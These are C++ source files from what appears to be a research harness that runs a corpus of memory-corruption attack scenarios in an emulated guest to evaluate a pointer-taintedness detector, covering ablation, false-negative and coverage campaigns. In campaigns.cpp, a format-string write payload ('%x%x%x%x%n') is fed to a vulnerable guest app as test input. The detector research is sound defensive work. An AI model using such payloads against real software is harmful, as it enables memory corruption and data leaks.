  double run_ms = 0.0;      // driving the guest in slices
  double judge_ms = 0.0;    // report extraction + classify

  // COW footprint of the finished run (fork path; 0 on the legacy path).
  // dirty_pages is a deterministic function of the guest run; shared_pages
  // depends on concurrent snapshot sharing and is reporting-only.
  uint64_t dirty_pages = 0;   // pages the run diverged on
  uint64_t shared_pages = 0;  // pages still shared with the snapshot at stop

  core::RunReport report;
  std::string verdict;  // classifier's one-word judgement (e.g. DETECTED)
  std::string detail;   // classifier's evidence (e.g. the alert line)
  std::string error;    // harness error message, when status says so
};

}  // namespace ptaint::campaign
