// Deterministic campaign reporting.
//
// Results arrive from the executor already merged in stable matrix order
// (slot per job index), so every emitter here is a pure function of that
// ordered vector: run the same matrix twice — serial, 4 workers, 64
// workers — and the JSON, CSV and console output are byte-identical.
#pragma once

#include <string>
#include <vector>

#include "campaign/job.hpp"

namespace ptaint::campaign {

/// Machine-readable rows, one JSON object per job in matrix order.
std::string to_json(const std::vector<JobResult>& results);

/// Spreadsheet form: header + one row per job in matrix order.
std::string to_csv(const std::vector<JobResult>& results);

/// Human console summary: per-policy verdict tallies plus any rows that
/// need eyes (harness errors, timeouts), in matrix order.
std::string console_summary(const std::vector<JobResult>& results);

/// Escapes a string for inclusion in JSON output ("..." not included).
std::string json_escape(const std::string& s);

/// Escapes a CSV field (quotes when needed).
std::string csv_escape(const std::string& s);

}  // namespace ptaint::campaign
