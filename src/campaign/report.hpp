// Deterministic campaign reporting.
//
// Results arrive from the executor already merged in stable matrix order
// (slot per job index), so every emitter here is a pure function of that
// ordered vector: run the same matrix twice — serial, 4 workers, 64
// workers — and the JSON, CSV and console output are byte-identical.
#pragma once

#include <string>
#include <vector>

#include "campaign/job.hpp"

namespace ptaint::campaign {

/// Opt-in report fields.  The defaults keep the emitters deterministic
/// (byte-identical across worker counts and hosts); with_timing adds the
/// per-phase wall-clock columns plus the COW page counters, which vary run
/// to run and are meant for profiling output, not golden files.
struct ReportOptions {
  bool with_timing = false;
};

/// Machine-readable rows, one JSON object per job in matrix order.
std::string to_json(const std::vector<JobResult>& results);
std::string to_json(const std::vector<JobResult>& results,
                    const ReportOptions& opts);

/// One result as a single-line JSON object — the exact row to_json emits
/// for it, without the surrounding array.  The serve daemon streams these
/// as `verdict` events and journals them as `done` records, so a streamed
/// verdict and a batch sidecar row for the same run are field-identical.
std::string to_json_row(const JobResult& result, const ReportOptions& opts);

/// Exit-code contract shared by ptaint-campaign and scripted callers:
///   0 — every job ended in a guest-side outcome (ok / guest fault /
///       budget exhausted);
///   2 — at least one job ended in a harness error;
///   3 — at least one job timed out (and none harness-errored).
/// Codes 1 (verdict/static-check mismatch) and 4 (usage) are decided by
/// the CLI before results exist; see docs/CAMPAIGN.md.
int exit_code_for(const std::vector<JobResult>& results);

/// Spreadsheet form: header + one row per job in matrix order.
std::string to_csv(const std::vector<JobResult>& results);
std::string to_csv(const std::vector<JobResult>& results,
                   const ReportOptions& opts);

/// Human console summary: per-policy verdict tallies plus any rows that
/// need eyes (harness errors, timeouts), in matrix order.
std::string console_summary(const std::vector<JobResult>& results);

/// Escapes a string for inclusion in JSON output ("..." not included).
std::string json_escape(const std::string& s);

/// Escapes a CSV field (quotes when needed).
std::string csv_escape(const std::string& s);

}  // namespace ptaint::campaign
