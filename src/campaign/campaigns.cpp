#include "campaign/campaigns.hpp"

#include <cstdio>
#include <cstdlib>
#include <map>
#include <memory>
#include <mutex>
#include <sstream>
#include <stdexcept>

#include "analysis/cfg.hpp"
#include "analysis/summary_cache.hpp"
#include "analysis/taint_analyzer.hpp"
#include "analysis/vsa.hpp"
#include "core/attack.hpp"
#include "core/spec_workloads.hpp"
#include "guest/apps/apps.hpp"
#include "guest/apps/registry.hpp"
#include "guest/runtime.hpp"

namespace ptaint::campaign {
namespace {

constexpr uint64_t kSpecBudget = 2'000'000'000;  // run_spec_workload's limit
constexpr uint64_t kContrastBudget = 200'000'000;  // MachineConfig default

std::string spec_verdict(const core::SpecRunRow& row) {
  if (row.alert) return "ALERT";
  return row.ok ? "OK" : "UNEXPECTED";
}

/// Shared, copyable views of the corpora so job closures can keep them
/// alive past the builder function's return.
std::vector<std::shared_ptr<const core::Scenario>> shared_corpus() {
  std::vector<std::shared_ptr<const core::Scenario>> out;
  for (auto& s : core::make_attack_corpus()) out.push_back(std::move(s));
  return out;
}

std::vector<std::shared_ptr<const core::SpecWorkload>> shared_workloads(
    int scale) {
  std::vector<std::shared_ptr<const core::SpecWorkload>> out;
  for (auto& w : core::make_spec_workloads(scale)) {
    out.push_back(std::make_shared<const core::SpecWorkload>(std::move(w)));
  }
  return out;
}

/// Process-wide memoized corpora for the per-cell entry points.  Building
/// the attack corpus assembles every scenario's guest program (~90ms) —
/// negligible once per batch campaign, ruinous when the serve daemon pays
/// it on every submitted cell.  Scenarios and workloads are immutable, and
/// batch campaigns already share them across worker threads, so one
/// process-wide copy changes nothing semantically.
const std::vector<std::shared_ptr<const core::Scenario>>& cached_corpus() {
  static const std::vector<std::shared_ptr<const core::Scenario>> corpus =
      shared_corpus();
  return corpus;
}

const std::vector<std::shared_ptr<const core::SpecWorkload>>&
cached_workloads(int scale) {
  static std::mutex mutex;
  static std::map<int,
                  std::vector<std::shared_ptr<const core::SpecWorkload>>>
      by_scale;
  std::lock_guard<std::mutex> lock(mutex);
  auto it = by_scale.find(scale);
  if (it == by_scale.end()) {
    it = by_scale.emplace(scale, shared_workloads(scale)).first;
  }
  return it->second;
}

/// Machine config for a fork of a shared snapshot under `policy`.  The
/// snapshot holds the armed pre-run state (policy-independent — taint bits
/// are data); the fork's own config carries the detection policy for this
/// job.  With `elide`, restore() runs the static analyzer and installs the
/// check-elision bitmap for the fork's policy.
core::MachineConfig fork_config(const cpu::TaintPolicy& policy,
                                uint64_t max_instructions, bool elide,
                                std::optional<cpu::Engine> engine) {
  core::MachineConfig cfg;
  cfg.policy = policy;
  cfg.max_instructions = max_instructions;
  cfg.static_elision = elide;
  cfg.engine = engine;
  return cfg;
}

/// Machine-pool key: everything fork_config() puts in the MachineConfig,
/// and nothing else.  Deliberately snapshot-independent — a kept machine
/// restores *any* snapshot (a COW page share plus CPU state reset; a delta
/// restore when the base happens to match), so the matrices' policy-major
/// rows let one machine per worker serve a whole row of boots.
std::string machine_key(const std::string& policy_name, uint64_t budget,
                        bool elide, std::optional<cpu::Engine> engine) {
  std::string key = policy_name + "|b" + std::to_string(budget);
  if (elide) key += "|elide";
  if (engine) {
    switch (*engine) {
      case cpu::Engine::kStep: key += "|step"; break;
      case cpu::Engine::kSuperblock: key += "|superblock"; break;
      case cpu::Engine::kJit: key += "|jit"; break;
    }
  }
  return key;
}

/// Pins PTAINT_ENGINE for a scope (serial reference runs); restores the
/// previous value on destruction.
class ScopedEngineEnv {
 public:
  explicit ScopedEngineEnv(const char* value) {
    if (const char* old = std::getenv("PTAINT_ENGINE")) saved_ = old;
    ::setenv("PTAINT_ENGINE", value, /*overwrite=*/1);
  }
  ~ScopedEngineEnv() {
    if (saved_) {
      ::setenv("PTAINT_ENGINE", saved_->c_str(), 1);
    } else {
      ::unsetenv("PTAINT_ENGINE");
    }
  }
  ScopedEngineEnv(const ScopedEngineEnv&) = delete;
  ScopedEngineEnv& operator=(const ScopedEngineEnv&) = delete;

 private:
  std::optional<std::string> saved_;
};

Job spec_job(SnapshotCache& cache,
             const std::shared_ptr<const core::SpecWorkload>& w,
             const PolicyVariant& variant, bool elide,
             std::optional<cpu::Engine> engine) {
  Job job;
  job.app = "spec";
  job.payload = w->name;
  job.policy = variant.name;
  job.max_instructions = kSpecBudget;
  const cpu::TaintPolicy policy = variant.policy;
  job.machine_key = machine_key(variant.name, kSpecBudget, elide, engine);
  job.make_config = [policy, elide, engine]() {
    return fork_config(policy, kSpecBudget, elide, engine);
  };
  job.get_snapshot = [&cache, w]() {
    return cache.get("spec:" + w->name, [&w]() {
      return core::prepare_spec_workload(*w, {})->snapshot();
    });
  };
  job.classify = [w](core::Machine& m, const core::RunReport& report,
                     JobResult& out) {
    const core::SpecRunRow row = core::classify_spec_run(*w, m, report);
    out.verdict = spec_verdict(row);
    out.detail = row.alert ? report.alert_line() : "";
  };
  return job;
}

Job attack_job(SnapshotCache& cache,
               const std::shared_ptr<const core::Scenario>& s,
               const std::string& policy_name,
               const cpu::TaintPolicy& policy, bool elide,
               std::optional<cpu::Engine> engine) {
  Job job;
  job.app = "attack";
  job.payload = s->name();
  job.policy = policy_name;
  job.max_instructions = s->max_instructions();
  const uint64_t budget = s->max_instructions();
  job.machine_key = machine_key(policy_name, budget, elide, engine);
  job.make_config = [policy, budget, elide, engine]() {
    return fork_config(policy, budget, elide, engine);
  };
  job.get_snapshot = [&cache, s]() {
    return cache.get("attack:" + s->name(), [&s]() {
      // Arm under the default policy: the pre-run state is identical for
      // every variant, so one snapshot serves the whole policy column.
      return s->prepare_attack({})->snapshot();
    });
  };
  job.classify = [s](core::Machine& m, const core::RunReport& report,
                     JobResult& out) {
    const core::ScenarioResult r = s->classify_attack(m, report);
    out.verdict = core::to_string(r.outcome);
    out.detail = r.detail;
  };
  return job;
}

/// The Table 4 contrast case: the WRITE (%n) variant of the format-string
/// leak, expected to be *caught* by the pointer-taintedness detector.
std::unique_ptr<core::Machine> prepare_fn_format_write() {
  core::MachineConfig cfg;
  auto m = std::make_unique<core::Machine>(cfg);
  m->load_sources(guest::link_with_runtime(guest::apps::fn_format_leak()));
  m->os().net().add_session({"abcd%x%x%x%x%n"});
  return m;
}

void classify_fn_format_write(const core::RunReport& report, JobResult& out) {
  out.verdict = report.detected() ? "DETECTED" : "NOT-DETECTED";
  out.detail =
      report.detected() ? report.alert_line() : std::string("NOT DETECTED (!)");
}

Job fn_format_write_job(SnapshotCache& cache, bool elide,
                        std::optional<cpu::Engine> engine) {
  Job job;
  job.app = "attack";
  job.payload = "fn-format-write";
  job.policy = "paper";
  job.max_instructions = kContrastBudget;
  job.machine_key = machine_key("paper", kContrastBudget, elide, engine);
  job.make_config = [elide, engine]() {
    return fork_config({}, kContrastBudget, elide, engine);
  };
  job.get_snapshot = [&cache]() {
    return cache.get("attack:fn-format-write",
                     []() { return prepare_fn_format_write()->snapshot(); });
  };
  job.classify = [](core::Machine&, const core::RunReport& report,
                    JobResult& out) { classify_fn_format_write(report, out); };
  return job;
}

// --- matrices -------------------------------------------------------------

std::vector<Job> ablation_jobs(SnapshotCache& cache, int spec_scale,
                               bool elide,
                               std::optional<cpu::Engine> engine) {
  const auto workloads = shared_workloads(spec_scale);
  const auto corpus = shared_corpus();
  std::vector<Job> jobs;
  for (const PolicyVariant& v : ablation_variants()) {
    for (const auto& w : workloads) {
      jobs.push_back(spec_job(cache, w, v, elide, engine));
    }
    for (const auto& s : corpus) {
      if (!s->expected_detected()) continue;
      jobs.push_back(attack_job(cache, s, v.name, v.policy, elide, engine));
    }
  }
  return jobs;
}

const core::AttackId kFalsenegIds[] = {core::AttackId::kFnIntOverflow,
                                       core::AttackId::kFnAuthFlag,
                                       core::AttackId::kFnFormatLeak};
const char* const kFalsenegLabels[] = {"(A) integer overflow index",
                                       "(B) auth-flag overwrite",
                                       "(C) format-string info leak"};

std::vector<Job> falseneg_jobs(SnapshotCache& cache, bool elide,
                               std::optional<cpu::Engine> engine) {
  std::vector<Job> jobs;
  cpu::TaintPolicy paper;  // defaults: pointer-taintedness, all rules on
  for (core::AttackId id : kFalsenegIds) {
    std::shared_ptr<const core::Scenario> s = core::make_scenario(id);
    jobs.push_back(attack_job(cache, s, "paper", paper, elide, engine));
  }
  jobs.push_back(fn_format_write_job(cache, elide, engine));
  return jobs;
}

// Coverage policy columns: the three detection modes plus the address-leak
// direction ("leak-aware": paper pointer-taint with
// TaintPolicy::leak_detection armed).  One list shared by coverage_jobs /
// coverage_serial / campaign_cells / policy_by_name so the four views of
// the matrix can never disagree on the column set.
std::vector<PolicyVariant> coverage_columns() {
  std::vector<PolicyVariant> out;
  for (cpu::DetectionMode mode :
       {cpu::DetectionMode::kOff, cpu::DetectionMode::kControlDataOnly,
        cpu::DetectionMode::kPointerTaint}) {
    cpu::TaintPolicy p;
    p.mode = mode;
    out.push_back({core::to_string(mode), p});
  }
  {
    cpu::TaintPolicy p;  // paper defaults plus the leak direction
    p.leak_detection = true;
    out.push_back({"leak-aware", p});
  }
  return out;
}

std::vector<Job> coverage_jobs(SnapshotCache& cache, bool elide,
                               std::optional<cpu::Engine> engine) {
  const auto corpus = shared_corpus();
  std::vector<Job> jobs;
  for (const PolicyVariant& v : coverage_columns()) {
    for (const auto& s : corpus) {
      jobs.push_back(attack_job(cache, s, v.name, v.policy, elide, engine));
    }
  }
  return jobs;
}

// --- serial references ----------------------------------------------------

JobStatus status_for(const core::RunReport& report) {
  switch (report.stop) {
    case cpu::StopReason::kFault: return JobStatus::kGuestFault;
    case cpu::StopReason::kInstLimit: return JobStatus::kBudgetExhausted;
    default: return JobStatus::kOk;
  }
}

JobResult serial_row(size_t index, std::string app, std::string payload,
                     std::string policy) {
  JobResult r;
  r.index = index;
  r.app = std::move(app);
  r.payload = std::move(payload);
  r.policy = std::move(policy);
  r.attempts = 1;
  return r;
}

std::vector<JobResult> ablation_serial(int spec_scale) {
  std::vector<JobResult> out;
  const auto workloads = core::make_spec_workloads(spec_scale);
  const auto corpus = core::make_attack_corpus();
  for (const PolicyVariant& v : ablation_variants()) {
    for (const auto& w : workloads) {
      JobResult r = serial_row(out.size(), "spec", w.name, v.name);
      auto m = core::prepare_spec_workload(w, v.policy);
      r.report = m->run();
      const core::SpecRunRow row = core::classify_spec_run(w, *m, r.report);
      r.verdict = spec_verdict(row);
      r.detail = row.alert ? r.report.alert_line() : "";
      r.status = status_for(r.report);
      out.push_back(std::move(r));
    }
    for (const auto& s : corpus) {
      if (!s->expected_detected()) continue;
      JobResult r = serial_row(out.size(), "attack", s->name(), v.name);
      core::ScenarioResult sr = s->run_attack_with(v.policy);
      r.report = sr.report;
      r.verdict = core::to_string(sr.outcome);
      r.detail = sr.detail;
      r.status = status_for(r.report);
      out.push_back(std::move(r));
    }
  }
  return out;
}

std::vector<JobResult> falseneg_serial() {
  std::vector<JobResult> out;
  for (core::AttackId id : kFalsenegIds) {
    auto s = core::make_scenario(id);
    JobResult r = serial_row(out.size(), "attack", s->name(), "paper");
    core::ScenarioResult sr =
        s->run_attack(cpu::DetectionMode::kPointerTaint);
    r.report = sr.report;
    r.verdict = core::to_string(sr.outcome);
    r.detail = sr.detail;
    r.status = status_for(r.report);
    out.push_back(std::move(r));
  }
  JobResult r = serial_row(out.size(), "attack", "fn-format-write", "paper");
  auto m = prepare_fn_format_write();
  r.report = m->run();
  classify_fn_format_write(r.report, r);
  r.status = status_for(r.report);
  out.push_back(std::move(r));
  return out;
}

std::vector<JobResult> coverage_serial() {
  std::vector<JobResult> out;
  const auto corpus = core::make_attack_corpus();
  for (const PolicyVariant& v : coverage_columns()) {
    for (const auto& s : corpus) {
      JobResult r = serial_row(out.size(), "attack", s->name(), v.name);
      core::ScenarioResult sr = s->run_attack_with(v.policy);
      r.report = sr.report;
      r.verdict = core::to_string(sr.outcome);
      r.detail = sr.detail;
      r.status = status_for(r.report);
      out.push_back(std::move(r));
    }
  }
  return out;
}

// --- formatters -----------------------------------------------------------

std::string format_ablation(const std::vector<JobResult>& results) {
  std::string out;
  char line[256];
  out += "== Ablation: Table 1 rules and taint granularity ==\n\n";
  std::snprintf(line, sizeof line, "%-24s %18s %18s\n", "variant",
                "SPEC false pos.", "attacks detected");
  out += line;
  // Walk results in matrix order, emitting one row per policy group.
  size_t i = 0;
  while (i < results.size()) {
    const std::string& policy = results[i].policy;
    int spec_fp = 0, detected = 0, detectable = 0;
    size_t spec_total = 0;
    for (; i < results.size() && results[i].policy == policy; ++i) {
      const JobResult& r = results[i];
      if (r.app == "spec") {
        ++spec_total;
        if (r.verdict == "ALERT") ++spec_fp;
      } else {
        ++detectable;
        if (r.verdict == "DETECTED") ++detected;
      }
    }
    std::snprintf(line, sizeof line, "%-24s %12d / %zu %14d / %d\n",
                  policy.c_str(), spec_fp, spec_total, detected, detectable);
    out += line;
  }
  out +=
      "\nreading: the compare-untaint rule is the compatibility-critical "
      "one — without it, validated indices stay tainted and benign table "
      "lookups false-positive (the paper keeps it and accepts the Table 4 "
      "false negatives in exchange).\n";
  return out;
}

std::string format_falseneg(const std::vector<JobResult>& results) {
  if (results.size() != 4) {
    throw std::invalid_argument("falseneg campaign expects 4 results");
  }
  std::string out;
  char line[512];
  out += "== Table 4: False Negative Scenarios "
         "(detector ON, attacks still land) ==\n\n";
  for (size_t i = 0; i < 3; ++i) {
    std::snprintf(line, sizeof line, "%-34s  outcome=%-12s %s\n",
                  kFalsenegLabels[i], results[i].verdict.c_str(),
                  results[i].detail.c_str());
    out += line;
  }
  out += "\ncontrast: the WRITE variant of (C) is detected:\n";
  std::snprintf(line, sizeof line, "  %%x%%x%%x%%x%%n -> %s\n",
                results[3].detail.c_str());
  out += line;
  out +=
      "\npaper: all three scenarios escape any generic runtime detector;\n"
      "they corrupt or leak plain data without ever dereferencing a tainted "
      "word.\n";
  return out;
}

std::string format_coverage(const std::vector<JobResult>& results) {
  std::string out;
  char line[256];
  out += "== Coverage: attack corpus x detection mode ==\n\n";
  std::snprintf(line, sizeof line, "%-26s %-22s %s\n", "scenario", "mode",
                "outcome");
  out += line;
  for (const JobResult& r : results) {
    std::snprintf(line, sizeof line, "%-26s %-22s %s\n", r.payload.c_str(),
                  r.policy.c_str(), r.verdict.c_str());
    out += line;
  }
  return out;
}

}  // namespace

std::vector<PolicyVariant> ablation_variants() {
  std::vector<PolicyVariant> out;
  out.push_back({"paper (all rules on)", {}});
  {
    cpu::TaintPolicy p;
    p.compare_untaints = false;
    out.push_back({"no compare-untaint", p});
  }
  {
    cpu::TaintPolicy p;
    p.and_zero_untaints = false;
    out.push_back({"no AND-zero untaint", p});
  }
  {
    cpu::TaintPolicy p;
    p.xor_self_untaints = false;
    out.push_back({"no XOR-self untaint", p});
  }
  {
    cpu::TaintPolicy p;
    p.shift_smear = false;
    out.push_back({"no shift smear", p});
  }
  {
    cpu::TaintPolicy p;
    p.per_word_taint = true;
    out.push_back({"per-word taint", p});
  }
  {
    cpu::TaintPolicy p;  // paper rules plus the address-leak direction
    p.leak_detection = true;
    out.push_back({"leak detection", p});
  }
  return out;
}

std::vector<std::string> campaign_names() {
  return {"ablation", "falseneg", "coverage"};
}

std::vector<Job> make_jobs(const std::string& campaign, SnapshotCache& cache,
                           int spec_scale, bool elide,
                           std::optional<cpu::Engine> engine) {
  if (campaign == "ablation") {
    return ablation_jobs(cache, spec_scale, elide, engine);
  }
  if (campaign == "falseneg") return falseneg_jobs(cache, elide, engine);
  if (campaign == "coverage") return coverage_jobs(cache, elide, engine);
  throw std::invalid_argument("unknown campaign: " + campaign);
}

std::vector<CellRef> campaign_cells(const std::string& campaign,
                                    int spec_scale) {
  std::vector<CellRef> out;
  if (campaign == "ablation") {
    const auto workloads = core::make_spec_workloads(spec_scale);
    const auto corpus = core::make_attack_corpus();
    for (const PolicyVariant& v : ablation_variants()) {
      for (const auto& w : workloads) out.push_back({"spec", w.name, v.name});
      for (const auto& s : corpus) {
        if (!s->expected_detected()) continue;
        out.push_back({"attack", s->name(), v.name});
      }
    }
    return out;
  }
  if (campaign == "falseneg") {
    for (core::AttackId id : kFalsenegIds) {
      out.push_back({"attack", core::make_scenario(id)->name(), "paper"});
    }
    out.push_back({"attack", "fn-format-write", "paper"});
    return out;
  }
  if (campaign == "coverage") {
    const auto corpus = core::make_attack_corpus();
    for (const PolicyVariant& v : coverage_columns()) {
      for (const auto& s : corpus) {
        out.push_back({"attack", s->name(), v.name});
      }
    }
    return out;
  }
  throw std::invalid_argument("unknown campaign: " + campaign);
}

std::optional<cpu::TaintPolicy> policy_by_name(const std::string& name) {
  for (const PolicyVariant& v : ablation_variants()) {
    if (v.name == name) return v.policy;
  }
  for (const PolicyVariant& v : coverage_columns()) {
    if (v.name == name) return v.policy;
  }
  if (name == "paper") return cpu::TaintPolicy{};
  return std::nullopt;
}

Job make_cell_job(const CellRef& cell, SnapshotCache& cache, int spec_scale,
                  bool elide, std::optional<cpu::Engine> engine) {
  const std::optional<cpu::TaintPolicy> policy = policy_by_name(cell.policy);
  if (!policy) {
    throw std::invalid_argument("unknown policy: " + cell.policy);
  }
  if (cell.app == "spec") {
    for (const auto& w : cached_workloads(spec_scale)) {
      if (w->name == cell.payload) {
        return spec_job(cache, w, {cell.policy, *policy}, elide, engine);
      }
    }
    throw std::invalid_argument("unknown spec workload: " + cell.payload);
  }
  if (cell.app == "attack") {
    if (cell.payload == "fn-format-write") {
      if (cell.policy != "paper") {
        throw std::invalid_argument(
            "fn-format-write runs under the \"paper\" policy only");
      }
      return fn_format_write_job(cache, elide, engine);
    }
    for (const auto& s : cached_corpus()) {
      if (s->name() == cell.payload) {
        return attack_job(cache, s, cell.policy, *policy, elide, engine);
      }
    }
    throw std::invalid_argument("unknown attack scenario: " + cell.payload);
  }
  throw std::invalid_argument("unknown app kind: " + cell.app);
}

Job make_session_job(const std::string& app_name,
                     const std::vector<std::string>& session,
                     const std::string& stdin_text,
                     const std::string& policy_name, SnapshotCache& cache,
                     bool elide, std::optional<cpu::Engine> engine) {
  const std::optional<cpu::TaintPolicy> policy = policy_by_name(policy_name);
  if (!policy) {
    throw std::invalid_argument("unknown policy: " + policy_name);
  }
  if (guest::apps::find_app(app_name) == nullptr) {
    throw std::invalid_argument("unknown guest app: " + app_name);
  }
  Job job;
  job.app = "guest";
  job.payload = app_name;
  job.policy = policy_name;
  job.max_instructions = kContrastBudget;
  job.machine_key = machine_key(policy_name, kContrastBudget, elide, engine);
  const cpu::TaintPolicy p = *policy;
  job.make_config = [p, elide, engine]() {
    return fork_config(p, kContrastBudget, elide, engine);
  };
  // The armed inputs are part of the boot, so the snapshot key must cover
  // them: two submissions differing only in session bytes fork different
  // snapshots, identical ones share.
  std::string snap_key = "guest:" + app_name;
  for (const std::string& line : session) snap_key += "\x1f" + line;
  snap_key += "\x1e" + stdin_text;
  job.get_snapshot = [&cache, snap_key, app_name, session, stdin_text]() {
    return cache.get(snap_key, [&]() {
      auto m = std::make_unique<core::Machine>(core::MachineConfig{});
      m->load_sources(
          guest::link_with_runtime(guest::apps::find_app(app_name)->make()));
      if (!session.empty()) m->os().net().add_session(session);
      if (!stdin_text.empty()) m->os().set_stdin(stdin_text);
      return m->snapshot();
    });
  };
  job.classify = [](core::Machine&, const core::RunReport& report,
                    JobResult& out) {
    if (report.detected()) {
      out.verdict = "DETECTED";
      out.detail = report.alert_line();
    } else if (report.stop == cpu::StopReason::kFault) {
      out.verdict = "CRASHED";
      out.detail = report.fault;
    } else if (report.stop == cpu::StopReason::kInstLimit) {
      out.verdict = "BUDGET";
    } else {
      out.verdict = "EXIT:" + std::to_string(report.exit_status);
    }
  };
  return job;
}

std::vector<JobResult> run_serial_reference(const std::string& campaign,
                                            int spec_scale) {
  // The serial reference is the semantic baseline, so it always runs on
  // the reference interpreter regardless of the ambient engine selection.
  ScopedEngineEnv pin("step");
  if (campaign == "ablation") return ablation_serial(spec_scale);
  if (campaign == "falseneg") return falseneg_serial();
  if (campaign == "coverage") return coverage_serial();
  throw std::invalid_argument("unknown campaign: " + campaign);
}

std::string format_campaign(const std::string& campaign,
                            const std::vector<JobResult>& results) {
  if (campaign == "ablation") return format_ablation(results);
  if (campaign == "falseneg") return format_falseneg(results);
  if (campaign == "coverage") return format_coverage(results);
  throw std::invalid_argument("unknown campaign: " + campaign);
}

StaticCheckReport static_check(const std::string& campaign,
                               const std::vector<JobResult>& results,
                               int spec_scale) {
  StaticCheckReport out;

  // Program per payload (link-identical across the policy column); the
  // analyses come from the process-wide summary cache — the same entries
  // Machine::apply_static_elision unions into the gen-2 table, so the
  // backward check validates exactly the cached bitmaps elided runs
  // execute under (and the campaign machines usually left them warm).
  std::map<std::string, asmgen::Program> programs;
  auto program_for = [&](const JobResult& r) -> const asmgen::Program& {
    auto it = programs.find(r.payload);
    if (it != programs.end()) return it->second;
    std::unique_ptr<core::Machine> m;
    if (r.app == "spec") {
      for (const auto& w : core::make_spec_workloads(spec_scale)) {
        if (w.name == r.payload) {
          m = core::prepare_spec_workload(w, {});
          break;
        }
      }
    } else if (r.payload == "fn-format-write") {
      m = prepare_fn_format_write();
    } else {
      for (const auto& s : core::make_attack_corpus()) {
        if (s->name() == r.payload) {
          m = s->prepare_attack({});
          break;
        }
      }
    }
    if (!m) throw std::invalid_argument("static_check: unknown payload " +
                                        r.payload);
    return programs.emplace(r.payload, m->program()).first->second;
  };

  for (const JobResult& r : results) {
    if (!r.report.alert) continue;
    const cpu::SecurityAlert& alert = *r.report.alert;
    // Only pointer-taintedness and address-leak alerts have a static
    // counterpart; the §5.3 annotation check and the NX baseline fire on
    // data values, which the analyzer deliberately summarizes away.
    const bool is_leak = alert.kind == cpu::AlertKind::kAddressLeak;
    if (!is_leak && alert.kind != cpu::AlertKind::kTaintedJumpTarget &&
        alert.kind != cpu::AlertKind::kTaintedLoadAddress &&
        alert.kind != cpu::AlertKind::kTaintedStoreAddress) {
      continue;
    }
    ++out.alerts_checked;
    const std::optional<cpu::TaintPolicy> policy = policy_by_name(r.policy);
    if (!policy) {
      throw std::invalid_argument("static_check: unknown policy " + r.policy);
    }
    const std::shared_ptr<const analysis::CachedAnalysis> st =
        analysis::SummaryCache::instance().analyze(program_for(r), *policy);
    if (is_leak) {
      // Forward: the aprov layer must hold a may-leak witness for the
      // kernel-output site; backward: the site must not be in the leak
      // elision bitmap (a leak-elided run would skip the check).
      if (!st->g2.predicts_leak(alert.pc)) {
        char line[256];
        std::snprintf(line, sizeof line,
                      "%s / %s / %s: leak alert at %08x (%s) has no prover "
                      "leak witness",
                      r.app.c_str(), r.payload.c_str(), r.policy.c_str(),
                      alert.pc, alert.disasm.c_str());
        out.missed.push_back(line);
      }
      const analysis::LeakSite* site = st->g2.leak_site_at(alert.pc);
      if (site && site->reachable && site->may_planes == 0) {
        char line[256];
        std::snprintf(line, sizeof line,
                      "%s / %s / %s: leak alert at %08x (%s) sits in the "
                      "leak elision table",
                      r.app.c_str(), r.payload.c_str(), r.policy.c_str(),
                      alert.pc, alert.disasm.c_str());
        out.elided_alerts.push_back(line);
      }
      continue;
    }
    // Forward: the prover must hold a may-taint witness for the alert site.
    if (!st->g2.predicts_alert(alert.pc)) {
      char line[256];
      std::snprintf(line, sizeof line,
                    "%s / %s / %s: dynamic alert at %08x (%s) has no "
                    "prover witness",
                    r.app.c_str(), r.payload.c_str(), r.policy.c_str(),
                    alert.pc, alert.disasm.c_str());
      out.missed.push_back(line);
    }
    // Backward: the alert site must not be in the gen-2 elision union
    // (gen-1 clean OR prover clean) — an elided run would skip the check.
    auto clean = [&](const analysis::DerefSite* s) {
      return s && s->reachable && !may_be_tainted(s->may_taint);
    };
    if (clean(st->g1.site_at(alert.pc)) || clean(st->g2.site_at(alert.pc))) {
      char line[256];
      std::snprintf(line, sizeof line,
                    "%s / %s / %s: dynamic alert at %08x (%s) sits in the "
                    "gen-2 elision table",
                    r.app.c_str(), r.payload.c_str(), r.policy.c_str(),
                    alert.pc, alert.disasm.c_str());
      out.elided_alerts.push_back(line);
    }
  }
  (void)campaign;  // matrices self-describe via app/payload/policy labels
  return out;
}

std::vector<std::string> diff_verdicts(const std::vector<JobResult>& engine,
                                       const std::vector<JobResult>& serial) {
  std::vector<std::string> out;
  if (engine.size() != serial.size()) {
    std::ostringstream ss;
    ss << "result count mismatch: engine=" << engine.size()
       << " serial=" << serial.size();
    out.push_back(ss.str());
    return out;
  }
  for (size_t i = 0; i < engine.size(); ++i) {
    const JobResult& e = engine[i];
    const JobResult& s = serial[i];
    auto mismatch = [&](const char* field, const std::string& ev,
                        const std::string& sv) {
      std::ostringstream ss;
      ss << "[" << i << "] " << s.app << " / " << s.payload << " / "
         << s.policy << ": " << field << " differs: engine=\"" << ev
         << "\" serial=\"" << sv << "\"";
      out.push_back(ss.str());
    };
    if (e.app != s.app) mismatch("app", e.app, s.app);
    if (e.payload != s.payload) mismatch("payload", e.payload, s.payload);
    if (e.policy != s.policy) mismatch("policy", e.policy, s.policy);
    if (e.verdict != s.verdict) mismatch("verdict", e.verdict, s.verdict);
    if (e.detail != s.detail) mismatch("detail", e.detail, s.detail);
    const std::string ea = e.report.alert ? e.report.alert_line() : "";
    const std::string sa = s.report.alert ? s.report.alert_line() : "";
    if (ea != sa) mismatch("alert", ea, sa);
    if (e.report.alert_function != s.report.alert_function) {
      mismatch("alert_function", e.report.alert_function,
               s.report.alert_function);
    }
  }
  return out;
}

}  // namespace ptaint::campaign
