// The paper's evaluation matrices expressed as campaign job lists.
//
// Three named campaigns:
//   "ablation"  — bench_ablation_policy's matrix: 7 policy variants ×
//                 (6 SPEC surrogates + 9 detectable attacks);
//   "falseneg"  — bench_table4_false_negatives: the three Table 4 escape
//                 scenarios plus the detected WRITE contrast;
//   "coverage"  — the full attack corpus × {unprotected, control-data,
//                 pointer-taint, leak-aware} policy columns ("leak-aware"
//                 is the paper policy with TaintPolicy::leak_detection on).
//
// Each campaign comes in three pieces that must agree:
//   make_jobs()             — the parallel matrix (snapshot-fork per job);
//   run_serial_reference()  — the same matrix run serially through the
//                             pre-campaign entry points (run_spec_workload,
//                             Scenario::run_attack_with), in the same order;
//   format_campaign()       — renders ordered results into the exact text
//                             the original serial bench printed.
// ptaint_campaign --check diffs make_jobs+Executor against the serial
// reference verdict-by-verdict; the formatters let the ported benches stay
// byte-identical to their seed output.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "campaign/job.hpp"
#include "campaign/snapshot_cache.hpp"
#include "cpu/cpu.hpp"
